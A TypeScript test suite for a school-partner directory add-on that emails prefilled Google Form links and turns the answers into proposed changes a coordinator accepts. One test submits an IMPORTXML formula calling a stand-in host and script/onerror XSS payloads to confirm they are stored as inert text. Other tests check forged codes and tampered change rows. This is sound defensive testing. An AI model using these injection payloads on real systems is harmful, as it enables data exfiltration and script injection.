// "Ask partners to check their details" on the built bundle: a personal prefilled link through the mail
// loop, answers that come back as proposed changes, accepted one cell at a time with the conflict check,
// confirmations, and answers that must change nothing.
import type { AddOn } from '../../dev/gas';
import { loadAddOn } from '../../dev/gas';
import { seedDemoSchool } from '../../dev/preview/demo';
import type {
  DecideResult,
  DetailsAskResult,
  Directory,
  ProposedChanges,
  SaveResult,
} from '../../src/shared/contract';
import type { Contact, Partner } from '../../src/shared/records';
import { ok, snapshot } from './helpers';

const TODAY = '2027-05-20';
const CODE = 'Details code (filled in for you; please leave as is)';

function demo(): AddOn {
  const addOn = loadAddOn({ now: () => new Date(`${TODAY}T15:00:00Z`) });
  seedDemoSchool(addOn, TODAY);
  return addOn;
}

/** A partner with a primary contact that has an email and a phone, serving two schools. */
function partnerToAsk(addOn: AddOn, index = 0): { partner: Partner; contact: Contact } {
  const d = ok<Directory>(addOn, 'getDirectory');
  const found = d.partners
    .map((p) => ({
      entry: p,
      contact: d.contacts.find(
        (c) => c.record.partnerId === p.record.id && c.record.primary && c.record.email,
      ),
    }))
    .filter((x) => x.contact)[index];
  if (!found?.contact) throw new Error('no partner with a primary contact');
  const saved = ok<SaveResult<Partner>>(addOn, 'savePartner', {
    id: found.entry.record.id,
    version: found.entry.version,
    values: {
      ...editable(found.entry.record),
      schools: 'Riverside Elementary, Hillcrest Middle',
    },
  });
  if (saved.status !== 'saved') throw new Error(JSON.stringify(saved));
  return { partner: saved.entry.record, contact: found.contact.record };
}

/** The values savePartner takes (no id or stamps). */
function editable(p: Partner): Record<string, unknown> {
  const { id: _id, created: _c, updated: _u, ...rest } = p;
  return rest;
}

function ask(addOn: AddOn, ids: string[], batch = 50): DetailsAskResult {
  return ok<DetailsAskResult>(addOn, 'askToCheckDetails', ids, batch);
}

/** The personal link each contact got, by email. */
function links(addOn: AddOn): Map<string, string> {
  const out = new Map<string, string>();
  for (const m of addOn.workspace.mail.sent) {
    const link = /https:\/\/docs\.google\.com\/forms\/\S+/.exec(m.body)?.[0];
    if (link) out.set(m.to[0], link);
  }
  return out;
}

/** What a prefilled link shows, by question title. */
function shownBy(addOn: AddOn, link: string): Record<string, string> {
  const form = addOn.workspace.forms.inspect().find((f) => link.startsWith(f.publishedUrl));
  if (!form) throw new Error('no form for the link');
  const params = new URLSearchParams(link.slice(link.indexOf('?') + 1));
  return Object.fromEntries(
    form.items.map((i) => [i.title, params.get(`entry.${i.entryId}`) ?? '']).filter(([, v]) => v !== ''),
  );
}

const pending = (addOn: AddOn) => ok<ProposedChanges>(addOn, 'getProposedChanges');
const tab = (addOn: AddOn, name: string) => snapshot(addOn).find((t) => t.name === name);

/** The cells that differ between two snapshots, as "Tab!row,col". */
function changedCells(a: ReturnType<typeof snapshot>, b: ReturnType<typeof snapshot>): string[] {
  const out: string[] = [];
  for (const t of b) {
    const before = a.find((x) => x.name === t.name);
    const rows = Math.max(before?.values.length ?? 0, t.values.length);
    for (let r = 0; r < rows; r++) {
      const cols = Math.max(before?.values[r]?.length ?? 0, t.values[r]?.length ?? 0);
      for (let c = 0; c < cols; c++) {
        const x = before?.values[r]?.[c] ?? '';
        const y = t.values[r]?.[c] ?? '';
        if (JSON.stringify(x) !== JSON.stringify(y)) out.push(`${t.name}!${r + 1},${c + 1}`);
      }
    }
  }
  return out;
}

const header = (addOn: AddOn, name: string, title: string) =>
  (tab(addOn, name)?.values[0] ?? []).indexOf(title) + 1;

describe('asking partners to check their details', () => {
  it('sends the primary contact a link to the Form prefilled with the partner’s current record', () => {
    const addOn = demo();
    const { partner, contact } = partnerToAsk(addOn);
    const result = ask(addOn, [partner.id]);
    expect(result.sent).toEqual([contact.email]);
    const link = links(addOn).get(contact.email) ?? '';
    const shown = shownBy(addOn, link);
    expect(shown).toMatchObject({
      Organization: partner.name,
      Website: partner.website,
      'Grades served': partner.grades,
      'Schools served': 'Riverside Elementary, Hillcrest Middle',
      'Focus areas': partner.focusAreas.join(', '),
      'Main contact: name': contact.name,
      'Main contact: email': contact.email,
      'Main contact: phone': contact.phone,
      'Partner reference (filled in for you; please leave as is)': partner.id,
    });
    expect(shown[CODE]).toMatch(/^[0-9a-f]{48}$/);
    const agreements = ok<Directory>(addOn, 'getDirectory').agreements.filter(
      (a) => a.record.partnerId === partner.id,
    );
    for (const a of agreements)
      expect(shown['Agreement dates']).toContain(
        `${a.record.type}: ${a.record.start || '?'} to ${a.record.end || '?'}`,
      );
    // The Form is published, answers into this spreadsheet, and one form-submit trigger serves it.
    const form = addOn.workspace.forms.inspect().find((f) => link.startsWith(f.publishedUrl));
    expect(form?.acceptingResponses).toBe(true);
    expect(form?.destination?.spreadsheetId).toBe(addOn.workspace.spreadsheet.getId());
    expect(form?.items.map((i) => i.title)).not.toEqual(
      expect.arrayContaining(['Status', 'Notes', 'Vetting', 'Decision']),
    );
    expect(addOn.workspace.triggers.list().filter((t) => t.handler === 'onSurveySubmit')).toHaveLength(1);
  });

  it('emails each partner once, reuses the one Form, and stops at the quota', () => {
    const addOn = demo();
    const a = partnerToAsk(addOn, 0);
    const b = partnerToAsk(addOn, 1);
    const c = partnerToAsk(addOn, 2);
    addOn.workspace.mail.setQuota(1);
    const first = ask(addOn, [a.partner.id, b.partner.id]);
    expect(first.sent).toHaveLength(1);
    expect([first.queued, first.stoppedBy]).toEqual([1, 'quota']);
    addOn.workspace.mail.setQuota(100);
    // Asked again: the one waiting goes, the one that went does not go twice.
    const second = ask(addOn, [a.partner.id, b.partner.id, c.partner.id]);
    expect(second.sent).toHaveLength(2);
    expect(addOn.workspace.mail.sent.map((m) => m.to[0]).sort()).toEqual(
      [a.contact.email, b.contact.email, c.contact.email].sort(),
    );
    const forms = new Set([...links(addOn).values()].map((l) => l.slice(0, l.indexOf('?'))));
    expect(forms.size).toBe(1);
  });

  it('turns a changed phone and a removed school into two proposed changes, accepted one by one as exactly those cells', () => {
    const addOn = demo();
    const { partner, contact } = partnerToAsk(addOn);
    ask(addOn, [partner.id]);
    addOn.workspace.forms.submit(links(addOn).get(contact.email) ?? '', {
      'Main contact: phone': '+1 503 555 0142',
      'Schools served': 'Riverside Elementary',
    });
    const view = pending(addOn);
    expect(view.partners).toHaveLength(1);
    expect(view.partners[0].name).toBe(partner.name);
    const changes = view.partners[0].changes;
    expect(changes.map((c) => [c.label, c.oldValue, c.newValue, c.conflict]).sort()).toEqual(
      [
        ['Main contact: phone', contact.phone, '+1 503 555 0142', false],
        ['Schools served', 'Riverside Elementary, Hillcrest Middle', 'Riverside Elementary', false],
      ].sort(),
    );
    // Nothing written to the record before the coordinator decides.
    expect(
      ok<Directory>(addOn, 'getDirectory').contacts.find((c) => c.record.id === contact.id)?.record.phone,
    ).toBe(contact.phone);
    const phone = changes.find((c) => c.label === 'Main contact: phone')!;
    const school = changes.find((c) => c.label === 'Schools served')!;

    let before = snapshot(addOn);
    expect(ok<DecideResult>(addOn, 'decideChange', phone.id, 'accept')).toEqual({ status: 'accepted' });
    let diff = changedCells(before, snapshot(addOn));
    const contactRow = (tab(addOn, 'Contacts')?.values ?? []).findIndex((r) => r[0] === contact.id) + 1;
    expect(diff.filter((d) => !d.startsWith('Proposed Changes!'))).toEqual([
      `Contacts!${contactRow},${header(addOn, 'Contacts', 'Phone')}`,
    ]);
    expect(tab(addOn, 'Contacts')?.values[contactRow - 1][header(addOn, 'Contacts', 'Phone') - 1]).toBe(
      '+1 503 555 0142',
    );

    before = snapshot(addOn);
    expect(ok<DecideResult>(addOn, 'decideChange', school.id, 'accept')).toEqual({ status: 'accepted' });
    diff = changedCells(before, snapshot(addOn));
    const partnerRow = (tab(addOn, 'Partners')?.values ?? []).findIndex((r) => r[0] === partner.id) + 1;
    expect(diff.filter((d) => !d.startsWith('Proposed Changes!'))).toEqual([
      `Partners!${partnerRow},${header(addOn, 'Partners', 'Schools served')}`,
    ]);
    expect(pending(addOn).partners).toEqual([]);
    // A decided change is not decided twice.
    expect(addOn.run('decideChange', school.id, 'reject')).toMatchObject({ ok: false });
  });

  it('takes answers as the partner typed them, which Sheets would make dates or numbers, and stores them as text', () => {
    const addOn = demo();
    const { partner, contact } = partnerToAsk(addOn);
    ask(addOn, [partner.id]);
    // The response tab shows these as a date, a date, a number and a time: the Form has them as typed.
    addOn.workspace.forms.submit(links(addOn).get(contact.email) ?? '', {
      'Grades served': '3-5',
      'Schools served': '1/2',
      'Main contact: phone': '555-0100',
      'Main contact: role': '007',
      'Services you offer': '3:30',
    });
    const changes = pending(addOn).partners[0].changes;
    expect(Object.fromEntries(changes.map((c) => [c.label, c.newValue]))).toEqual({
      'Grades served': '3-5',
      'Schools served': '1/2',
      'Main contact: phone': '555-0100',
      'Main contact: role': '007',
      'Services you offer': '3:30',
    });
    const stored = tab(addOn, 'Proposed Changes')!;
    expect(stored.values.flat()).toEqual(expect.arrayContaining(['3-5', '1/2', '555-0100', '007', '3:30']));
    for (const c of changes)
      expect([c.label, ok<DecideResult>(addOn, 'decideChange', c.id, 'accept').status]).toEqual([
        c.label,
        'accepted',
      ]);
    const partners = tab(addOn, 'Partners')!;
    const row = partners.values.find((r) => r[0] === partner.id)!;
    expect(row[header(addOn, 'Partners', 'Grades served') - 1]).toBe('3-5');
    expect(row[header(addOn, 'Partners', 'Schools served') - 1]).toBe('1/2');
    expect(row[header(addOn, 'Partners', 'Services') - 1]).toBe('3:30');
    const people = tab(addOn, 'Contacts')!;
    const person = people.values.find((r) => r[0] === contact.id)!;
    expect(person[header(addOn, 'Contacts', 'Phone') - 1]).toBe('555-0100');
    expect(person[header(addOn, 'Contacts', 'Role') - 1]).toBe('007');
  });

  it('shows a cell changed in the sheet since the request, and does not overwrite it', () => {
    const addOn = demo();
    const { partner, contact } = partnerToAsk(addOn);
    ask(addOn, [partner.id]);
    addOn.workspace.forms.submit(links(addOn).get(contact.email) ?? '', {
      'Main contact: phone': '503-555-0100',
    });
    const contacts = addOn.workspace.spreadsheet.getSheetByName('Contacts')!;
    const row = (tab(addOn, 'Contacts')?.values ?? []).findIndex((r) => r[0] === contact.id) + 1;
    contacts.getRange(row, header(addOn, 'Contacts', 'Phone')).setValues([["'503-555-0177"]]);
    const [change] = pending(addOn).partners[0].changes;
    expect([change.conflict, change.current]).toEqual([true, '503-555-0177']);
    const result = ok<DecideResult>(addOn, 'decideChange', change.id, 'accept');
    expect(result).toMatchObject({ status: 'conflict', current: '503-555-0177' });
    expect(contacts.getRange(row, header(addOn, 'Contacts', 'Phone')).getValues()[0][0]).toBe('503-555-0177');
    // Still waiting: the coordinator may reject it.
    expect(pending(addOn).partners[0].changes).toHaveLength(1);
    expect(ok<DecideResult>(addOn, 'decideChange', change.id, 'reject')).toEqual({ status: 'rejected' });
    expect(contacts.getRange(row, header(addOn, 'Contacts', 'Phone')).getValues()[0][0]).toBe('503-555-0177');
  });

  it('marks the record confirmed today when the answer changes nothing', () => {
    const addOn = demo();
    const { partner, contact } = partnerToAsk(addOn);
    ask(addOn, [partner.id]);
    addOn.workspace.forms.submit(links(addOn).get(contact.email) ?? '');
    expect(pending(addOn)).toEqual({ partners: [], waiting: 0, answered: 1 });
    const after = ok<Directory>(addOn, 'getDirectory').partners.find((p) => p.record.id === partner.id);
    expect(after?.record.confirmed).toBe(TODAY);
  });

  it('changes nothing for an answer whose code is another partner’s, or unknown', () => {
    const addOn = demo();
    const a = partnerToAsk(addOn, 0);
    const b = partnerToAsk(addOn, 1);
    ask(addOn, [a.partner.id, b.partner.id]);
    const byEmail = links(addOn);
    const codeOf = (link: string) => shownBy(addOn, link)[CODE];
    const linkA = byEmail.get(a.contact.email) ?? '';
    const mixed = linkA.replace(codeOf(linkA), codeOf(byEmail.get(b.contact.email) ?? ''));
    const kept = (s: ReturnType<typeof snapshot>) => s.filter((t) => !t.name.startsWith('Form Responses'));
    const before = kept(snapshot(addOn));
    addOn.workspace.forms.submit(mixed, {
      Organization: 'Taken Over Inc',
      'Main contact: phone': '503-555-0000',
    });
    addOn.workspace.forms.submit(linkA.replace(codeOf(linkA), 'f'.repeat(48)), { Organization: 'Nobody' });
    expect(kept(snapshot(addOn))).toEqual(before);
    expect(pending(addOn).partners).toEqual([]);
  });

  it('stores formula and script payloads as inert text, cut to the column’s length, and never changes status', () => {
    const addOn = demo();
    const { partner, contact } = partnerToAsk(addOn);
    ask(addOn, [partner.id]);
    const formula = '=IMPORTXML("https://evil.example/x","//a")';
    const script = '<script>alert(1)</script><img src=x onerror=alert(2)>';
    addOn.workspace.forms.submit(links(addOn).get(contact.email) ?? '', {
      Organization: script,
      'Grades served': formula,
      'Services you offer': `+${'x'.repeat(6000)}`,
    });
    const changes = pending(addOn).partners[0].changes;
    const by = (label: string) => changes.find((c) => c.label === label)!;
    expect(by('Organization').newValue).toBe(script);
    expect(by('Grades served').newValue).toBe(formula);
    expect(by('Services you offer').newValue).toHaveLength(5000);
    const stored = tab(addOn, 'Proposed Changes')!;
    expect(stored.formulas.flat().filter((f) => f !== '')).toEqual([]);
    expect(stored.values.flat()).toEqual(expect.arrayContaining([formula, script]));
    for (const c of changes)
      expect(ok<DecideResult>(addOn, 'decideChange', c.id, 'accept').status).toBe('accepted');
    const partners = tab(addOn, 'Partners')!;
    expect(partners.formulas.flat().filter((f) => f !== '')).toEqual([]);
    const row = partners.values.findIndex((r) => r[0] === partner.id);
    expect(partners.values[row][header(addOn, 'Partners', 'Grades served') - 1]).toBe(formula);
    expect(partners.values[row][header(addOn, 'Partners', 'Organization') - 1]).toBe(script);
    expect(partners.values[row][header(addOn, 'Partners', 'Status') - 1]).toBe(partner.status);
  });

  it('refuses a change the Proposed Changes tab was edited to aim at status or another partner', () => {
    const addOn = demo();
    const { partner, contact } = partnerToAsk(addOn);
    const other = partnerToAsk(addOn, 1).partner;
    ask(addOn, [partner.id]);
    addOn.workspace.forms.submit(links(addOn).get(contact.email) ?? '', { Organization: 'New name' });
    const [change] = pending(addOn).partners[0].changes;
    const sheet = addOn.workspace.spreadsheet.getSheetByName('Proposed Changes')!;
    const row = (tab(addOn, 'Proposed Changes')?.values ?? []).findIndex((r) => r[0] === change.id) + 1;
    const fieldAt = header(addOn, 'Proposed Changes', 'Field');
    sheet.getRange(row, fieldAt).setValues([['status']]);
    const before = snapshot(addOn);
    expect(addOn.run('decideChange', change.id, 'accept')).toMatchObject({
      ok: false,
      message: expect.stringMatching(/cannot change "status"/),
    });
    sheet.getRange(row, fieldAt).setValues([['name']]);
    sheet.getRange(row, header(addOn, 'Proposed Changes', 'Record ID')).setValues([[other.id]]);
    expect(ok<DecideResult>(addOn, 'decideChange', change.id, 'accept').status).toBe('conflict');
    expect(changedCells(before, snapshot(addOn)).filter((d) => !d.startsWith('Proposed Changes!'))).toEqual(
      [],
    );
  });
});
